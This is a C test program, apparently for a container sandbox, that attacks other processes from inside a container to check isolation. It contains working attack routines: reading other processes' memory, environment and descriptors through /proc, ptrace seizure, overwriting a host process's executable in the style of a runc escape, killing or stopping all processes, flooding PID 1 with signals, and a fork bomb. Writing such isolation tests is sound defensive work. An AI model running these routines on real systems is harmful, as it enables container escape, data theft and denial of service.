/* Attacks on other processes, for the tests: built static, run inside containers. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void report(const char *what, long result) {
  printf("%s %s\n", what, result < 0 ? strerrorname_np(errno) : "allowed");
}

/* Says that something was had of a process: of ours before its exec, or of any other, once. */
static void had(pid_t pid, const char *what) {
  static char told[256];
  char path[64], name[32] = "";
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  int fd = open(path, O_RDONLY);
  if (fd < 0 || read(fd, name, sizeof name - 1) <= 0) name[0] = 0;
  close(fd);
  name[strcspn(name, "\n")] = 0;
  // A process keeps this name until it is executed, so it had it when the attack succeeded too.
  if (strncmp(name, "caisson", 7) == 0) printf("caught %s of %s\n", what, name);
  else if (name[0] != 0 && strstr(told, what) == NULL) {
    strcat(told, what);
    printf("ordinary %s\n", what);
  }
}

static void try_open(pid_t pid, const char *name, int mode) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  int fd = open(path, mode | O_NONBLOCK);
  if (fd < 0) return;
  had(pid, name);
  close(fd);
}

static void try_ptrace(pid_t pid) {
  fflush(stdout);
  pid_t tracer = fork();
  if (tracer == 0) {
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) had(pid, "ptrace");
    _exit(0);
  }
  waitpid(tracer, NULL, 0);
}

static void attack(pid_t pid) {
  try_open(pid, "mem", O_RDWR);
  try_open(pid, "environ", O_RDONLY);
  try_open(pid, "exe", O_RDONLY);
  try_open(pid, "root", O_PATH | O_DIRECTORY);
  try_open(pid, "cwd", O_PATH | O_DIRECTORY);
  for (int fd = 0; fd < 64; fd++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
    int had_fd = open(path, O_PATH);
    if (had_fd >= 0) had(pid, "descriptor");
    close(had_fd);
  }
}

/* Tries to get hold of every process but its own, again and again. */
static void watch(void) {
  int ordinary = 0;
  puts("watching");
  for (;;) {
    DIR *all = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(all)) != NULL;) {
      pid_t pid = atoi(entry->d_name);
      if (pid == 0 || pid == getpid()) continue;
      attack(pid);
      // It takes a process, and so time in which others would be missed; odd, so that of two each has its turn.
      if (ordinary++ % 7 == 0) try_ptrace(pid);
    }
    closedir(all);
  }
}

/* Tries to overwrite whatever program another process runs, or a script of it leads to: runc's end. */
static void overwrite(void) {
  puts("watching");
  for (;;) {
    for (pid_t pid = 1; pid < 400; pid++) {
      char path[64], link[256] = "";
      if (pid == getpid()) continue;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int held = open(path, O_PATH);
      if (held < 0) continue;
      snprintf(path, sizeof path, "/proc/self/fd/%d", held);
      if (readlink(path, link, sizeof link - 1) > 0) {
        int copy = open(path, O_RDONLY);
        if (copy >= 0) printf("%s read\n", link);
        close(copy);
        int file = open(path, O_WRONLY);
        if (file < 0 && errno == ETXTBSY) {
          // Held, it stays the same file when its process has ended, and can be written to then.
          kill(pid, SIGKILL);
          while (file < 0 && errno == ETXTBSY) {
            usleep(1000);
            file = open(path, O_WRONLY);
          }
        }
        int written = file < 0 ? -1 : write(file, "x", 1);
        printf("%s %s\n", link, written == 1 ? "overwritten" : strerrorname_np(errno));
        if (file >= 0) close(file);
      }
      close(held);
    }
  }
}

/* Stops all others for ever, as often as it can. */
static void stop_all(void) {
  puts("stopping");
  for (;;) kill(-1, SIGSTOP);
}

/* Tells PID 1 lies, and sends it whatever signal there is. */
static void flood_init(void) {
  siginfo_t lie = {.si_signo = SIGCHLD, .si_code = SI_QUEUE, .si_pid = getpid()};
  for (int i = 0; i < 20000; i++) {
    syscall(SYS_rt_sigqueueinfo, 1, SIGCHLD, &lie);
    for (int signal = 1; signal <= 64; signal++) kill(1, signal);
  }
  report("init", kill(1, 0));
}

static int processes(void) {
  int count = 0;
  DIR *all = opendir("/proc");
  for (struct dirent *entry; (entry = readdir(all)) != NULL;) count += isdigit(entry->d_name[0]) != 0;
  closedir(all);
  return count;
}

/* Leaves dead orphans to PID 1, waits until they are gone, and then dead children to itself. */
static void zombies(int count) {
  for (int i = 0; i < count; i++) {
    pid_t parent = fork();
    if (parent == 0) {
      if (fork() == 0) usleep(1000);
      _exit(0);
    }
    waitpid(parent, NULL, 0);
  }
  while (processes() > 2) usleep(1000);
  puts("orphans gone");
  for (int i = 0; i < count; i++) {
    if (fork() == 0) _exit(0);
  }
  printf("%d processes\n", processes());
}

static void fork_bomb(void) {
  int told = getpid();
  for (;;) {
    if (fork() >= 0) continue;
    if (getpid() == told) puts("full");
    told = 0;
    usleep(10000);
  }
}

int main(int count, char **arguments) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char *mode = count > 1 ? arguments[1] : "";
  if (strcmp(mode, "watch") == 0) watch();
  else if (strcmp(mode, "overwrite") == 0) overwrite();
  else if (strcmp(mode, "stop-all") == 0) stop_all();
  else if (strcmp(mode, "kill-all") == 0) report("kill", kill(-1, SIGKILL));
  else if (strcmp(mode, "flood-init") == 0) flood_init();
  else if (strcmp(mode, "fork-bomb") == 0) fork_bomb();
  else if (count < 3) return 2;
  else if (strcmp(mode, "zombies") == 0) zombies(atoi(arguments[2]));
  else if (strcmp(mode, "signal") == 0) report("signal", kill(atoi(arguments[2]), SIGKILL));
  else return 2;
  return 0;
}
